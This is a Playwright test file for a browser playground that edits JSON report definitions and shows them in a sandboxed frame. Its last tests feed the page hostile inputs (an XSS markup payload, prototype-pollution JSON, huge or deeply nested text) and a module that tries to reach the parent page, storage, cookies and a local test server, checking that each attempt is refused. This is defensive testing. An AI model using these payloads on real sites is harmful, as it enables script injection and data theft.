import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { test as base, expect, type Frame, type Page } from '@playwright/test';
import { getDefaultPaths, readFiles } from '#check/index.ts';
import { examples, type Example } from '#playground/examples.ts';
import { getScreenFile, type CompileResult, type ShownScreen } from '#playground/protocol.ts';
import { compileText } from '#playground/worker/compileText.ts';
import { listen } from '../support/listen.ts';
import { servePlayground, type ServedPlayground } from '../support/servePlayground.ts';
import { findViolations } from './findViolations.ts';

/* The playground as a plain file server serves it, below a path. */
interface TestFixtures {
  /** Errors on the page, violations of policies among them. Empty at the end, because tests remove those that they provoke. */
  wrong: string[];
  playground: Playground;
}

const test = base.extend<TestFixtures, { host: ServedPlayground }>({
  host: [
    // oxlint-disable-next-line no-empty-pattern -- Playwright reads the fixtures from a pattern
    async ({}, use) => {
      const host = await servePlayground();
      await use(host);
      await host.stop();
    },
    { scope: 'worker' },
  ],
  wrong: [
    async ({ page }, use) => {
      const wrong: string[] = [];
      page.on('pageerror', (error) => wrong.push(error.message));
      page.on('console', (line) => line.type() === 'error' && wrong.push(line.text()));
      await use(wrong);
      expect(wrong).toEqual([]);
    },
    { auto: true },
  ],
  playground: async ({ page, host }, use) => {
    await recordResults(page);
    await use(new Playground(page, host.url));
  },
});

interface Recording {
  results: CompileResult[];
}

/** Records the results of the worker. */
async function recordResults(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const results: CompileResult[] = [];
    Object.assign(window, { results });
    window.Worker = class extends Worker {
      constructor(...args: ConstructorParameters<typeof Worker>) {
        super(...args);
        this.addEventListener('message', ({ data }: MessageEvent<{ result?: CompileResult }>) => {
          if (data.result) results.push(data.result);
        });
      }
    };
  });
}

class Playground {
  readonly page: Page;
  readonly address: string;
  constructor(page: Page, address: string) {
    this.page = page;
    this.address = address;
  }
  get screen() {
    return this.page.frameLocator('iframe');
  }
  get problems() {
    return this.page.getByRole('region', { name: 'Problems' });
  }
  async open(fragment = ''): Promise<void> {
    await this.page.goto('about:blank');
    await this.page.goto(this.address + fragment);
    await expect(this.problems).not.toContainText('Checking');
  }
  /** Replaces the text. */
  async replaceText(text: string): Promise<void> {
    await this.page.locator('.cm-content').click();
    await this.page.keyboard.press('ControlOrMeta+a');
    await this.page.keyboard.press('Delete');
    await this.page.keyboard.insertText(text);
  }
  lastResult(): Promise<CompileResult | undefined> {
    return this.page.evaluate(() => (window as unknown as Recording).results.at(-1));
  }
  frame(): Frame {
    return this.page.frames().find((frame) => frame.url().endsWith('frame.html'))!;
  }
}

const first = examples[0]!;

const headingOf: Record<string, string> = {
  total: 'Takings',
  filters: 'Bookings',
  rules: 'Reserve',
  stages: 'Join the club',
  receipt: 'Withdrawal',
  list: 'New order',
  actions: 'Players',
  tabs: 'Profile Setting',
  template: 'Level Income',
};

for (const example of examples.filter(({ id }) => id !== 'mend'))
  test(`The example "${example.title}" has the module of the commands and is drawn`, async ({
    playground,
  }) => {
    await playground.open(`#${example.id}`);
    await expect(playground.screen.getByRole('heading', { level: 1 })).toContainText(headingOf[example.id]!);
    await expect(playground.screen.locator('[aria-busy=true]')).toHaveCount(0);
    await expect(playground.screen.getByRole('alert')).toHaveCount(0);
    const { problems, screen } = await compileExample(example);
    const shown = await playground.lastResult();
    expect(shown?.problems).toEqual(problems);
    expect(shown?.screen?.module).toBe(screen?.module);
  });

const readExample = ({ portal, screen }: Example) => readFileSync(portal + getScreenFile(screen), 'utf8');

async function compileExample(example: Example): Promise<CompileResult> {
  const files = await readFiles(getDefaultPaths(resolve(example.portal)));
  return compileText(files, { screen: example.screen, text: readExample(example) });
}

test('A visitor adds a column, breaks it, reads the problem and mends it, in at most ten actions', async ({
  playground,
}) => {
  const { page, screen, problems } = playground;
  await playground.open();
  let actions = 0;
  const act = async (action: Promise<unknown>) => {
    actions += 1;
    await action;
  };
  await act(page.getByLabel('Example').selectOption('A report with filters'));
  await expect(screen.getByRole('columnheader', { name: 'Note' })).toBeVisible();
  await act(page.getByText('"filters"').hover());
  await act(page.mouse.wheel(0, 300));
  await act(page.getByText('"columns"').click());
  await act(page.keyboard.press('End'));
  await act(page.keyboard.insertText('{ "header": "Paid by", "field": "member.name", "format": "text" },'));
  await expect(screen.getByRole('columnheader', { name: 'Paid by' })).toBeVisible();
  await act(page.keyboard.insertText('{ "header": "Again", "field": "day", "format": "xdateTime" },'));
  const problem = problems.getByRole('button', {
    name: 'unknown format "xdateTime", did you mean "dateTime"?',
  });
  await expect(problem).toBeVisible();
  await expect(screen.getByRole('columnheader', { name: 'Paid by' })).toBeVisible();
  await act(problem.click());
  await act(page.keyboard.press('ArrowRight'));
  await act(page.keyboard.press('Delete'));
  expect(actions).toBeLessThanOrEqual(10);
  await expect(screen.getByRole('columnheader', { name: 'Again' })).toBeVisible();
});

test('The wrong example is mended by pressing what each problem proposes', async ({ playground }) => {
  const { screen, problems } = playground;
  await playground.open('#mend');
  for (const word of ['"dateTime"', '"header"', '"amount"'])
    await problems.getByRole('button', { name: `Use ${word}`, exact: true }).click();
  await expect(problems).toContainText('No problem.');
  await expect(screen.getByRole('columnheader', { name: 'From' })).toBeVisible();
});

test('A form is filled in and sent, and shows its receipt', async ({ playground }) => {
  const { screen } = playground;
  await playground.open('#receipt');
  await screen.getByLabel('Income Type').selectOption({ index: 1 });
  await screen.getByLabel('Withdrawal Type').selectOption({ index: 1 });
  await screen.getByLabel('Amount', { exact: true }).fill('100');
  await screen.getByRole('button', { name: 'Send OTP' }).click();
  await screen.getByLabel('OTP').fill('123456');
  await screen.getByRole('button', { name: 'Withdrawal' }).click();
  await expect(screen.getByText('Your withdrawal is requested')).toBeVisible();
});

test('A link has the text in its fragment, which no server receives', async ({ playground }) => {
  const { page, screen } = playground;
  await playground.open('#total');
  await playground.replaceText(readExample(first).replace('"Takings"', '"Sales"'));
  await expect(screen.getByRole('heading', { name: 'Sales' })).toBeVisible();
  await page.getByRole('button', { name: 'Copy link' }).click();
  const fragment = new URL(page.url()).hash;
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await playground.open(fragment);
  await expect(screen.getByRole('heading', { name: 'Sales' })).toBeVisible();
  expect(requests.filter((url) => url.includes(fragment.slice(1)))).toEqual([]);
});

test('After another example, Back brings the changed text back', async ({ playground }) => {
  const { page, screen } = playground;
  await playground.open('#total');
  await playground.replaceText(readExample(first).replace('"Takings"', '"Sales"'));
  await page.getByLabel('Example').selectOption('A nested list');
  await expect(screen.getByRole('heading', { name: 'New order' })).toBeVisible();
  await page.goBack();
  await expect(screen.getByRole('heading', { name: 'Sales' })).toBeVisible();
});

test('Without a connection, the page shows its other examples', async ({ playground }) => {
  const { page, screen } = playground;
  await playground.open('#total');
  await expect(screen.getByRole('heading', { name: 'Takings' })).toBeVisible();
  await page.context().setOffline(true);
  await page.getByLabel('Example').selectOption('A nested list');
  await expect(screen.getByRole('heading', { name: 'New order' })).toBeVisible();
  await page.context().setOffline(false);
});

test('The keyboard leaves the text', async ({ playground }) => {
  const { page } = playground;
  await playground.open();
  await page.locator('.cm-content').focus();
  await page.keyboard.press('Escape');
  await page.keyboard.press('Tab');
  await expect(page.getByRole('button', { name: 'Copy link' })).toBeFocused();
});

for (const width of [360, 1440])
  for (const colorScheme of ['light', 'dark'] as const)
    test(`The page and its screen have no axe violation at ${width} px, ${colorScheme}`, async ({
      playground,
      wrong,
    }) => {
      const { page, screen, problems } = playground;
      await page.emulateMedia({ colorScheme });
      await page.setViewportSize({ width, height: 900 });
      await playground.open('#filters');
      await expect(screen.getByRole('heading', { level: 1 })).toBeVisible();
      const frame = playground.frame() as unknown as Page;
      expect([...(await findViolations(page)), ...(await findViolations(frame))]).toEqual([]);
      const [page1, inner] = await Promise.all([widthOf(page), widthOf(frame)]);
      expect([page1, inner]).toEqual([0, 0]);
      // The tool fetches style sheets.
      expect(wrong.splice(0).filter((line) => !line.includes('frame.css'))).toEqual([]);
      await playground.open('#mend');
      await expect(problems.getByRole('button').first()).toBeVisible();
      expect(await findViolations(page)).toEqual([]);
    });

/** The pixels beyond the right edge of the window. */
function widthOf(page: Page): Promise<number> {
  return page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
}

const long = JSON.stringify({ version: 1, title: 'x'.repeat(255 * 1024), type: 'report', columns: [] });
const hostileTexts: Record<string, string> = {
  'template that extends itself':
    '{ "version": 1, "title": "x", "extends": "income-report", "type": "report" }',
  'text of 256 kB': long,
  'list of 100,000 columns': `{"version":1,"title":"x","type":"report","columns":[${'{},'.repeat(80_000)}{}]}`,
  prototype: '{ "version": 1, "title": "x", "__proto__": { "a": 1 }, "constructor": {}, "type": "report" }',
  markup: readExample(first).replace(
    '"Takings"',
    '"<img src=x onerror=alert(1)></script><script>alert(2)</script>"',
  ),
  'deep nesting': '['.repeat(50_000),
  'slow pattern': readExample(first).replace('"Takings"', `"${'{'.repeat(9_000)}"`),
};

for (const [name, text] of Object.entries(hostileTexts))
  test(`@hard A hostile text, ${name}, ends within three seconds and runs nothing`, async ({
    playground,
  }) => {
    const { page } = playground;
    await playground.open();
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const results = await page.evaluate(() => (window as unknown as Recording).results.length);
    await playground.replaceText(text);
    const ended = page.waitForFunction(
      (before) =>
        (window as unknown as Recording).results.length > before ||
        document.querySelector('.failure') !== null,
      results,
      { timeout: 3_000 },
    );
    await ended;
    await playground.replaceText(readExample(first));
    await expect(playground.screen.getByRole('columnheader', { name: 'Amount' })).toBeVisible();
    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => 'a' in {})).toBe(false);
  });

test('@hard A module that tries the page, the storage and the network reaches nothing', async ({
  playground,
  wrong,
}) => {
  const { page } = playground;
  await playground.open();
  await expect(playground.screen.getByRole('heading', { level: 1 })).toBeVisible();
  const outside: string[] = [];
  const other = await listen(async ({ url = '' }, response) => {
    outside.push(url);
    return response.end();
  });
  const shown = (await compileExample(first)).screen!;
  const hostile: ShownScreen = { ...shown, id: 'hostile', module: attack(other.origin) + shown.module };
  await page.evaluate((message) => {
    document.querySelector('iframe')!.contentWindow!.postMessage(JSON.parse(message), '*');
  }, JSON.stringify(hostile));
  await expect
    .poll(() => playground.frame().evaluate(() => (globalThis as { tried?: object }).tried))
    .toEqual({
      parent: 'SecurityError',
      top: 'SecurityError',
      localStorage: 'SecurityError',
      sessionStorage: 'SecurityError',
      cookie: 'SecurityError',
      indexedDB: 'SecurityError',
      fetch: 'TypeError',
      request: 'NetworkError',
      image: 'refused',
      eval: 'EvalError',
      import: 'TypeError',
      worker: 'refused',
      open: 'null',
    });
  await playground.frame().evaluate((url) => {
    window.location.href = url;
  }, `${other.origin}/away`);
  await page.waitForTimeout(1_000);
  expect(outside).toEqual([]);
  expect(page.url()).toBe(playground.address);
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
  wrong.length = 0;
  await other.stop();
});

/** The first lines of a module, which try what a frame must refuse. */
function attack(origin: string): string {
  return `
const attempts = {
  parent: () => { window.parent.document.title = 'stolen'; },
  top: () => { window.top.stolen = true; },
  localStorage: () => { localStorage.setItem('a', 'b'); },
  sessionStorage: () => { sessionStorage.setItem('a', 'b'); },
  cookie: () => { document.cookie = 'a=b'; },
  indexedDB: () => { indexedDB.open('a'); },
  fetch: () => fetch('${origin}/fetch'),
  request: () => { const r = new XMLHttpRequest(); r.open('GET', '${origin}/xhr', false); r.send(); },
  image: () => new Promise((done, refuse) => { const i = new Image(); i.onload = done; i.onerror = () => refuse({ name: 'refused' }); i.src = '${origin}/image'; }),
  eval: () => { (0, eval)('1'); },
  import: () => import('${origin}/module.js'),
  worker: () => { try { new Worker('data:text/javascript,1'); } catch { throw { name: 'refused' }; } throw { name: 'refused' }; },
  open: () => { throw { name: String(window.open('${origin}/open')) }; },
};
const tried = {};
for (const [name, attempt] of Object.entries(attempts))
  try { await attempt(); tried[name] = 'reached'; } catch (error) { tried[name] = error.name; }
globalThis.tried = tried;
try { top.location = '${origin}/top'; } catch {}
`;
}
